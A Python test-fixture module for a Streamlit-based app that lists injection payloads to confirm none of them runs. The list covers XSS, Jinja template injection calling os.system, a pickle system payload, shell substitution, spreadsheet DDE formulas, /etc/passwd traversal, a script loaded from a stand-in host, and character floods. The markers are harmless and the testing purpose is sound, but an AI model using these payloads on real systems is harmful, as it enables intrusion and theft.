"""What an attacker would write into a cell, a header, an id, an address or a link.

Each payload, if anything ran it, would set ``window.__pwned`` in the frame where it ran, open a
dialog, ask PAYLOAD_HOST for something, make the file MARKER, or show PRODUCT (a product that
stands nowhere in the text of a payload, only its factors do).
"""

from __future__ import annotations

import tempfile
from pathlib import Path

RUN = "window.__pwned=true"
HOST = "payload.invalid"
MARKER = Path(tempfile.gettempdir()) / "waybill-payload-ran"
PRODUCT = "42055007"  # 6007 * 7001
_OS = f"os.system('touch {MARKER}')"
_BIDI = "\u202e\u2066\u202a\u200f"

TEXTS: dict[str, str] = {
    # HTML
    "script": f"<script>{RUN}</script>",
    "script-src": f'<script src="https://{HOST}/x.js"></script>',
    "script-case": f"<ScRiPt >{RUN}</sCrIpT\t>",
    "script-end": f"</script><script>{RUN}</script>",
    "script-in-comment": f"<!--<script>{RUN}//--></script>",
    "comment-open": "<!-- what follows is gone",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "img": f'<img src=x onerror="{RUN}">',
    "img-unclosed": f"<img src=x onerror={RUN}//",
    "img-remote": f'<img src="https://{HOST}/pixel.png">',
    "img-slashes": f"<img/src=x/onerror={RUN}>",
    "entity": f"&lt;img src=x onerror={RUN}&gt;&#60;img src=x onerror={RUN}&#62;",
    "title-end": f"</title></textarea></style></noscript><img src=x onerror={RUN}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "autofocus": f"<input autofocus onfocus={RUN}>",
    "body": f"<body onload={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "video": f"<video><source onerror={RUN}></video>",
    "iframe": f"<iframe src=\"javascript:parent.__pwned=true\" srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    "base": f'<base href="https://{HOST}/">',
    "meta": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    "link-css": f'<link rel="stylesheet" href="https://{HOST}/x.css">',
    "style": f"<style>@import 'https://{HOST}/x.css';*{{background:url(https://{HOST}/y)}}</style>",
    "form": f'<form action="https://{HOST}/"><button formaction="javascript:{RUN}">Save</button></form>',
    "anchor": f'<a href="javascript:{RUN}">read on</a>',
    "clobber": '<form id=waybill><input name=ready></form><a id=Streamlit href="x:1"></a>',
    "dom-ids": '<div id="root" class="wb" data-ready="true">x</div>',
    # SVG and MathML
    "svg": f"<svg onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    "svg-use": f'<svg><use href="https://{HOST}/x.svg#a"/></svg>',
    "foreign-object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "mathml-href": f'<math href="javascript:{RUN}">x</math>',
    # out of an attribute, a string, a comment, a style
    "attribute-double": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute-single": f"' onmouseover='{RUN}' x='",
    "attribute-bare": f"x onpointerenter={RUN} tabindex=0",
    "string-double": f'";{RUN};//',
    "string-single": f"';{RUN};//",
    "string-backslash": f"\\';{RUN};//\\",
    "backslashes": "\\\\ \\n \\u003cimg\\u003e \\x3c \\",
    "template-literal": f"`;{RUN};`",
    "dollar": f"${{{RUN}}}$${{6007*7001}}",
    "line-separators": f"a\u2028{RUN}\u2029b",
    "json-end": f'"}}]}}; {RUN}; var a=[{{"b":"',
    "css": f"red;background:url(javascript:{RUN});-moz-binding:url(https://{HOST}/x)",
    "css-expression": f"expression({RUN})}} * {{ background: url('https://{HOST}/z') }}",
    # templates, here and on the server
    "jinja-49": "{{7*7}}",
    "jinja-product": "{{ 6007*7001 }}{{6007*7001}}",
    "jinja-statement": "{% print(6007*7001) %}{%- print(6007*7001) -%}",
    "jinja-comment": "{# gone #}kept",
    "jinja-system": f"{{{{ cycler.__init__.__globals__.os.system('touch {MARKER}') }}}}",
    "jinja-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-import": "{% import 'os' as os %}{% include '/etc/hostname' %}",
    "jinja-raw-end": f"{{% endraw %}}{{% endmacro %}}{{{{ {_OS} }}}}",
    "jinja-half": "{{ {% {# }} %} #}",
    "percent-format": "%s %(name)s %n {0.__class__} {name!r} {}",
    "python": f"__import__('os').system('touch {MARKER}')",
    "pickle": f"cos\nsystem\n(S'touch {MARKER}'\ntR.",
    "shell": f"$(touch {MARKER}) `touch {MARKER}` ; touch {MARKER}",
    "client-template": f"[[{RUN}]] {{{{constructor.constructor('{RUN}')()}}}} <%= 6007*7001 %> #{{6007*7001}}",
    # what Streamlit and streamlit-folium act on
    "markdown-image": f"![pixel](http://{HOST}/m.png)",
    "markdown-link": f"[read on](javascript:{RUN}) <javascript:{RUN}> http://{HOST}/auto",
    "markdown": "# head **bold** `code` :red[text] :material/home: $x^2$ ~~gone~~ <br> - a",
    "markdown-html": f"**<img src=x onerror={RUN}>** <u onclick={RUN}>u</u>",
    "map-div2": "map_div2 = map_div; map_div",
    "alert": "alert(coords);",
    "alert-call": "alert(1);confirm(1);prompt(1)",
    "name-words": "_name_abc this._name_0123456789abcdef0123456789abcdef",
    "eval": f'eval("{RUN}");new Function("{RUN}")();setTimeout("{RUN}",0)',
    # spreadsheets
    "formula": f'=HYPERLINK("https://{HOST}/","read")',
    "formula-dde": "=cmd|' /C calc'!A0".replace("|", "\uff5c"),
    "formula-at": "@SUM(1+1)*cmd",
    "formula-sign": "+1+1;-2-3",
    # characters
    "bidi": f"{_BIDI}gnp.exe{_BIDI}",
    "bidi-marks": "a\u200eb\u200fc\u061cd\u2069e",
    "zero-width": "a\u200bb\u200cc\u200dd\ufeffe\u00ade",
    "controls": "a\x01b\x07c\x08d\x1b[31me\x7ff\x85g",
    "nul-like": "a\\0b%00c\u2400d\\x00e&#0;f\ufffdg",
    "combining": "Z" + "\u0300\u0301\u0302\u0316\u0317" * 30 + "a",
    "astral": "\U0001f469\u200d\U0001f680\U000e0041\U0010ffff \u13a0\ufb01",
    "noncharacters": "a\ufdd0b\uffffc",
    "lines": "first\nsecond\r\nthird\tfourth",
    "null-words": "null undefined NaN Infinity [object Object] true 0",
    "wide": "\ufdfd\ufdfd\ufdfd \u2014\u2e3b W" * 3,
    # prototypes
    "proto": "__proto__",
    "proto-json": '{"__proto__": {"__pwned": true}, "constructor": {"prototype": {"__pwned": true}}}',
    "constructor": "constructor",
    "has-own": "hasOwnProperty toString valueOf",
    # addresses as text
    "javascript-url": f"javascript:{RUN}",
    "javascript-comment": f"javascript://%0a{RUN}",
    "data-url": f"data:text/html,<script>{RUN}</script>",
    "http-url": f"http://{HOST}/plain",
    "file-url": "file:///etc/passwd",
    "path": "../../../../etc/passwd",
}  # fmt: skip
"""Name → text that may stand in any cell. None holds ``|`` (which parts lists) or a NUL."""

HEADERS: tuple[str, ...] = tuple(dict.fromkeys(text.strip() for text in TEXTS.values()))
"""Names of extra columns."""

BAD_URLS: tuple[str, ...] = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \t\njavascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\r\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript:/*https://example.org/*/{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"https:javascript:{RUN}//\x00",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"DATA:text/html;base64,{RUN}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:https://{HOST}/1",
    f"filesystem:https://{HOST}/1",
    f"view-source:https://{HOST}/",
    "file:///etc/passwd",
    "about:blank",
    f"ftp://{HOST}/x",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"/\\{HOST}/x",
    f"/\t/{HOST}/x",
    "https://",
    "http:///",
    "https://[::1",
    '"><img src=x onerror=window.__pwned=true>',
)
"""Addresses that must never become a link."""

GOOD_URLS: tuple[str, ...] = (
    f"https://{HOST}/a?b=c&d=%22%3E%3Cscript%3E#e",
    f"https://{HOST}/'onmouseover='{RUN}'",
    f"http://{HOST}/{{{{6007*7001}}}}",
    f"https://{HOST}/{{%print(6007*7001)%}}",
    f"https://{HOST}/${{{RUN}}}",
    f"https://{HOST}/#javascript:{RUN}",
    f"https://{HOST}/);alert(coords);map_div2",
    f"https://javascript:1@{HOST}/`{RUN}`",
    f"HTTPS://{HOST}/_name_abc?__proto__=1&constructor=2",
)
"""Web addresses that are odd and harmless, as long as nothing runs them."""

IDS: tuple[str, ...] = (
    "constructor", "prototype", "map_div2", "alert", "window", "document", "location", "root",
    "x_name_abc", "0", "1e9", "length", "name", "title", "wb-panel", "wb-card-title", "undefined",
    "null", "true", "nan", "a-_-b", "forms", "body", "head", "get", "has", "hidden", "on", "style",
)  # fmt: skip
"""Ids that the pattern of ids allows and that mean something to a browser or to JavaScript."""

CELL = 99_900  # characters; a cell may hold 100,000
FLOODS: dict[str, str] = {
    "letters": "x" * CELL,
    "words": "word " * (CELL // 5),
    "spaces": "a" + " " * (CELL - 2) + "b",
    "no-break-spaces": "a" + "\u00a0\u2003" * (CELL // 2 - 2) + "b",
    "arrows": "→" * CELL,
    "arrows-apart": " →" * (CELL // 2),
    "brackets": "(" * CELL,
    "dots": ". " * (CELL // 2),
    "tags": f"<img src=x onerror={RUN}>" * (CELL // 40),
    "open-tags": "<b>" * (CELL // 3),
    "templates": "{{7*7}}" * (CELL // 8),
    "entities": "&" * CELL,
    "quotes": "\"'" * (CELL // 2),
    "combining": "e" + "\u0301" * (CELL - 2),
    "bidi": "\u202ea\u202c" * (CELL // 3),
    "lines": "a\n" * (CELL // 2),
}
"""Texts as long as a cell may be, to slow a reader down rather than to run."""
